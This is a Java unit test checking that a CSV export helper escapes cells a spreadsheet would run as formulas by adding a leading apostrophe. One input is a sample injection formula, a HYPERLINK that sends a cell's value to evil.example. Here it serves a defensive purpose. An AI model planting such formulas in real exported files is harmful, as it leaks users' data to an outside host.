package org.haven.analytics.statistics;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class CsvTextTest {

    @Test
    void a_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe() {
        assertThat(CsvText.cell("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")");
        assertThat(CsvText.cell("+1")).isEqualTo("'+1");
        assertThat(CsvText.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvText.cell("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvText.cell("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvText.cell("\r=1+1")).isEqualTo("'\r=1+1");
    }

    @Test
    void any_other_text_stays_as_it_is() {
        for (String text : new String[] {"respect_1", "My partner listens.", "1=strongly disagree|7=strongly agree",
                "a=b", " =1", "'quoted", "", "é"}) {
            assertThat(CsvText.cell(text)).isSameAs(text);
        }
        assertThat(CsvText.cell(null)).isNull();
    }
}
